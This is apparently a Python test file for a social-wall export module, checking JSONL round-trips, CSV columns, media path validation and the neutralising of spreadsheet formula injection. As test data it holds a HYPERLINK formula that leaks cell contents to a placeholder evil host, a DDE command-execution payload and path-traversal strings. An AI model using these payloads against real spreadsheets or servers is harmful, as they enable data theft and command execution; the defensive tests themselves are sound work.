"""The pure parts of an export: the replay line, the CSV row, the archive's relative media."""

from __future__ import annotations

import json

from tests.helpers import post_dict
from wall.export import (
    CSV_COLUMNS,
    archive_post,
    csv_cell,
    csv_row,
    jsonl_line,
    media_files,
    media_path,
)
from wall.models import Post


def test_jsonl_line_reads_back_as_the_same_post() -> None:
    """A post written as a JSONL line and read back with Post.from_dict is equal to it."""
    post = Post.from_dict(
        post_dict("1", "Grüße from the venue", photos=[{"url": "/media/p/a.jpg"}])
    )
    line = jsonl_line(post)
    assert "\n" not in line
    assert Post.from_dict(json.loads(line)) == post


def test_csv_row_follows_the_header() -> None:
    """One value per column, in the header's order."""
    post = Post.from_dict(post_dict("1", "hello", photos=[{"url": "/media/p/a.jpg"}]))
    row = dict(zip(CSV_COLUMNS, csv_row(post), strict=True))
    assert row["id"] == "test:1" and row["text"] == "hello"
    assert row["author_handle"] == "'@ada@example.org" and row["photo_count"] == "1"


def test_media_path_accepts_only_our_own_files() -> None:
    """Local /media/ URLs map into media/; remote URLs and any '..' are refused."""
    assert media_path("/media/p/ab/abcd.jpg") == "media/p/ab/abcd.jpg"
    assert media_path("https://cdn.example/p/a.jpg") is None
    assert media_path("/media/../secret_key") is None
    assert media_path("/media/p/../../secret_key") is None
    assert media_path("/media/p//a.jpg") is None


def test_archive_post_keeps_copied_media_relative_and_drops_the_rest() -> None:
    """Copied photos and avatars become relative; remote or missing ones are dropped."""
    post = Post.from_dict(
        post_dict(
            "1",
            author={"handle": "@a", "avatar_url": "https://cdn.example/a.png"},
            photos=[
                {"url": "/media/p/aa/one.jpg", "thumb_url": "/media/p/aa/one-t.jpg"},
                {"url": "https://cdn.example/two.jpg"},
                {"url": "/media/p/aa/missing.jpg"},
            ],
        )
    )
    assert media_files([post]) == [
        "/media/p/aa/one.jpg",
        "/media/p/aa/missing.jpg",
        "/media/p/aa/one-t.jpg",
    ]
    copied = {"media/p/aa/one.jpg", "media/p/aa/one-t.jpg"}
    archived = archive_post(post, copied)
    assert [(p.url, p.thumb_url) for p in archived.photos] == [
        ("media/p/aa/one.jpg", "media/p/aa/one-t.jpg")
    ]
    assert archived.author.avatar_url == ""


def test_csv_cells_that_would_be_formulas_are_neutralised() -> None:
    """A cell starting with = + - @ tab or CR gets a leading quote, so a spreadsheet shows it
    as text instead of running it; other cells are left as they are."""
    post = Post.from_dict(
        post_dict(
            "csv",
            '=HYPERLINK("http://evil.example/?"&A1,"click")',
            author={"handle": "@ada@example.org", "display_name": "+cmd|' /C calc'!A0"},
            content_warning="-2+3",
            language="\tx",
            hashtags=["=sum"],
        )
    )
    row = dict(zip(CSV_COLUMNS, csv_row(post), strict=True))
    assert row["text"].startswith("'=HYPERLINK(")
    assert row["author_name"] == "'+cmd|' /C calc'!A0"
    assert row["author_handle"] == "'@ada@example.org"
    assert row["content_warning"] == "'-2+3"
    assert row["language"] == "'\tx"
    assert row["source"] == "test" and row["photo_count"] == "0"
    for start in "=+-@\t\r":
        assert csv_cell(f"{start}1") == f"'{start}1"
    assert csv_cell("plain") == "plain" and csv_cell("") == ""
